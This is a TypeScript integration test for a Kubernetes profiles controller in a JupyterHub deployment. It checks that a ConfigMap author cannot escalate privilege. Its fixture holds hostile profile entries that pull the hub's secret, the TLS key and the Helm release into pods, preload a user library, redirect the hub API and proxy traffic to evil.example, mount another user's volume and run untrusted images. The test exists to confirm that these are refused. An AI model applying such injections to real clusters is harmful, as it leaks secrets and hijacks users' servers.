/** What whoever may write one ConfigMap of profiles, and nothing else, reaches by it on a real control plane. */
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { Agent, fetch } from 'undici'
import type { PodManifest } from '../../../src/domain/profiles/pod/pod-manifest.ts'
import { PROFILES_KEY } from '../../../src/domain/profiles/reading/read-file.ts'
import { type Cluster, controlPlane, eventually, startCluster } from '../../cluster/index.ts'
import { spawned } from '../../support/profiles.ts'
import type { Controller } from '../support/controller.ts'
import { hubToken } from '../support/profiles-api.ts'
import { install, type Release } from '../support/release.ts'
import { ownAddress, ROUTED, route } from '../support/route.ts'
import { poolValues } from '../support/values.ts'

const { skip } = await controlPlane()
const why = skip || (ownAddress() === undefined && 'this machine has no address but loopback')

const ATTACK = `profiles:
  - name: my course
    env:
      - {name: STORAGE, valueFrom: {secretKeyRef: {name: storage, key: token}}}
      - {name: HUB_SECRET, valueFrom: {secretKeyRef: {name: hub, key: hub.config.CryptKeeper.keys}}}
      - {name: CERT_KEY, valueFrom: {secretKeyRef: {name: warmseats-certificate, key: tls.key}}}
      - {name: HELM, valueFrom: {secretKeyRef: {name: sh.helm.release.v1.jupyterhub.v1, key: release}}}
      - {name: LD_PRELOAD, value: /home/jovyan/x.so}
      - {name: JUPYTERHUB_API_URL, value: "http://evil.example/hub/api"}
    volumes:
      - {name: data, persistentVolumeClaim: {claimName: image-data}, mountPath: /data}
      - {name: grace, persistentVolumeClaim: {claimName: claim-grace}, mountPath: /home/jovyan/grace}
  - {name: their image, users: ["*"], image: evil/image}
  - {name: a port, users: ["*"], image: "quay.io:8443/hub/exam:1"}
  - {name: another content, users: ["*"], image: "quay.io/hub/exam:1@sha256:0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a"}
sizes:
  - name: Mine
    env: {HTTPS_PROXY: "http://evil.example", MINE: "1"}
`
const REFUSED = ['HUB_SECRET', 'CERT_KEY', 'HELM', 'LD_PRELOAD', 'JUPYTERHUB_API_URL', 'HTTPS_PROXY']
const ELSEWHERE = `profiles: [{name: elsewhere, env: {LAB: "1"}}]
sizes: [{name: Of the lab}]
gpuTypes: [{type: lab}]
`

describe('who may write a ConfigMap of profiles', { skip: why }, () => {
  let cluster: Cluster
  let release: Release
  let controller: Controller
  const values = (reach: object) => ({
    nodePools: { user: poolValues('user') },
    profiles: {
      enabled: true,
      namespaces: ['lab'],
      webhook: { timeoutSeconds: 10, namespaces: ['hub', 'lab'] },
      api: { enabled: true, serviceAccounts: ['hub/author', 'lab/author'] },
      ...reach,
    },
  })
  before(async () => {
    cluster = await startCluster({ ...ROUTED, kwok: false })
    await cluster.request('POST', '/api/v1/namespaces', { metadata: { name: 'lab' } })
    release = await install({
      cluster,
      helm: 4,
      values: values({ allowedSecrets: ['*'], allowedClaims: ['*'], allowedImages: ['quay.io/hub/exam:*'] }),
      namespace: 'hub',
    })
    for (const namespace of ['hub', 'lab']) await authorOf(namespace)
    controller = await release.start()
    await eventually('it is ready', async () => (await controller.get('/readyz')).status === 200)
    await route(cluster, {}, controller.httpsPort)
    await writes('hub', 'course', ATTACK)
    await eventually('the profiles', async () => (await spawn('hub')).variables.STORAGE !== undefined)
  })
  after(async () => {
    await release?.stop()
    await cluster?.stop()
  })

  /** A ServiceAccount that may write ConfigMaps in its namespace, and do nothing else. */
  async function authorOf(namespace: string): Promise<void> {
    const inIt = ['--namespace', namespace]
    await cluster.kubectl(['create', 'serviceaccount', 'author', ...inIt])
    const verbs = ['--verb=create,get,patch', '--resource=configmaps']
    await cluster.kubectl(['create', 'role', 'author', ...verbs, ...inIt])
    await cluster.kubectl([
      ...['create', 'rolebinding', 'author', '--role=author', `--serviceaccount=${namespace}:author`, ...inIt],
    ])
  }

  async function writes(namespace: string, name: string, text: string): Promise<void> {
    const labels = { 'jupyterhub.opendatahub.io/user': 'profile' }
    const metadata = { name, namespace, labels }
    const object = { apiVersion: 'v1', kind: 'ConfigMap', metadata, data: { [PROFILES_KEY]: text } }
    const token = await cluster.kubeconfigFor(namespace, 'author')
    const apply = ['--kubeconfig', token, 'apply', '--server-side', '--filename', '-']
    await cluster.kubectl(apply, JSON.stringify(object))
  }

  /** What the server of ada gets that starts in a namespace, as the API server would create it. */
  async function spawn(namespace: string) {
    const pod = spawned({ annotations: { 'warmseats.io/size': 'Mine' } })
    const path = `/api/v1/namespaces/${namespace}/pods?dryRun=All`
    const { spec } = (await cluster.request('POST', path, pod)) as PodManifest
    const [{ image } = {}] = spec?.containers ?? []
    const env = spec?.containers?.[0]?.env ?? []
    return {
      variables: Object.fromEntries(env.map(({ name, value = '', valueFrom }) => [name, valueFrom ?? value])),
      volumes: spec?.volumes?.map(({ name }) => name) ?? [],
      image,
    }
  }

  const isGiven = async (names: readonly string[]) => {
    const { variables } = await spawn('hub')
    return names.filter((name) => name in variables)
  }

  it("reads no Secret of the house, mounts nobody's home and steers no server, though the values allow `*`", async () => {
    const { variables, volumes } = await spawn('hub')
    assert.deepEqual(await isGiven(REFUSED), [])
    assert.deepEqual(
      volumes.filter((name) => ['home', 'data', 'grace'].includes(name ?? '')),
      ['home', 'data'],
    )
    assert.deepEqual(variables.STORAGE, { secretKeyRef: { name: 'storage', key: 'token' } })
    assert.equal(variables.MINE, '1')
  })

  it('is told so by an Event on the ConfigMap, with what to write', async () => {
    const told = await eventually('the Event', async () => {
      const events = await cluster.kubectl([
        ...['get', 'events.events.k8s.io', '--namespace', 'hub', '--output', 'jsonpath={.items[*].note}'],
        ...['--field-selector', 'reason=ProfilesProblem'],
      ])
      return events.includes('allowedSecrets') ? events : undefined
    })
    assert.match(told, /^:5 profiles\[0\]\.env\[1\]: the Secret `hub` is the hub's own, .* \['\*', hub\]\}/)
    assert.doesNotMatch(told, /evil|x\.so/)
  })

  it('gives nobody an image that the values do not allow, whatever its name looks like', async () => {
    assert.equal((await spawn('hub')).image, 'quay.io/hub/base:1')
    const said = await controller.line('profiles problem', ({ where }) =>
      String(where).startsWith('ConfigMap course:13'),
    )
    assert.equal(
      said.text,
      'the image `evil/image` is not in `profiles.allowedImages`, so that this image is left out; if it is meant, write profiles: {allowedImages: [quay.io/hub/exam:*, evil/image]}',
    )
  })

  it('and the page, its data and the metrics say it, without the values of variables', async () => {
    const { problems } = JSON.parse((await controller.get('/status.json')).text) as {
      readonly problems: readonly { readonly where: string; readonly text: string }[]
    }
    const where = problems.map((one) => one.where).filter((one) => one.startsWith('ConfigMap course'))
    assert.equal(where.length, REFUSED.length + 1 + 3)
    assert.ok(where.includes('ConfigMap course:18 sizes[0].env.HTTPS_PROXY'), where.join('\n'))
    const { text: page } = await controller.get('/')
    assert.match(page, /the claim `claim-grace` has the name of a user/)
    assert.doesNotMatch(page, /evil\.example|x\.so/)
    assert.match((await controller.get('/metrics')).text, /^warmseats_profiles_problems 10$/m)
    await controller.line('profiles problem', ({ where }) => String(where).startsWith('ConfigMap course:7'))
  })

  it("acts on pods of that namespace alone, unless it is the release's own", async () => {
    await writes('lab', 'elsewhere', ELSEWHERE)
    await eventually('it to count in its own', async () => (await spawn('lab')).variables.LAB === '1')
    assert.equal((await spawn('lab')).variables.MINE, '1')
    assert.deepEqual(await isGiven(['LAB']), [])
    assert.deepEqual(await sizesFor('lab'), ['Default', 'Mine', 'Of the lab'])
    assert.deepEqual(await sizesFor('hub'), ['Default', 'Mine'])
    await eventually('the page to say so', async () =>
      /ConfigMap lab\/elsewhere<\/b>, for servers in lab alone/.test((await controller.get('/')).text),
    )
  })

  /** The sizes that a hub in a namespace is offered for its form. */
  async function sizesFor(namespace: string): Promise<readonly string[]> {
    const { data } = (await cluster.request('GET', '/api/v1/namespaces/hub/configmaps/warmseats-ca')) as {
      data: Readonly<Record<string, string>>
    }
    const dispatcher = new Agent({ connect: { ca: data['ca.crt'] ?? '', servername: 'warmseats.hub.svc' } })
    try {
      const headers = { authorization: `Bearer ${await hubToken(cluster, namespace, 'author')}` }
      const url = `https://127.0.0.1:${controller.httpsPort}/profiles/sizes?user=ada`
      const { sizes } = (await (await fetch(url, { headers, dispatcher })).json()) as { sizes: { name: string }[] }
      return sizes.map(({ name }) => name)
    } finally {
      await dispatcher.close()
    }
  }

  it('has what whoever installs names in full', async () => {
    const named = {
      ...{ allowedSecrets: ['storage', 'hub'], allowedClaims: ['claim-grace'], reservedEnv: ['LD_*'] },
      allowedImages: ['evil/image'],
    }
    await release.upgrade(values(named))
    const wanted = ['HUB_SECRET', 'JUPYTERHUB_API_URL', 'HTTPS_PROXY']
    await eventually('it to count', async () => (await isGiven(REFUSED)).length === wanted.length)
    assert.deepEqual(await isGiven(REFUSED), wanted)
    const { volumes, image } = await spawn('hub')
    assert.equal(image, 'evil/image')
    assert.deepEqual(
      volumes.filter((name) => ['data', 'grace'].includes(name ?? '')),
      ['grace'],
    )
  })
})
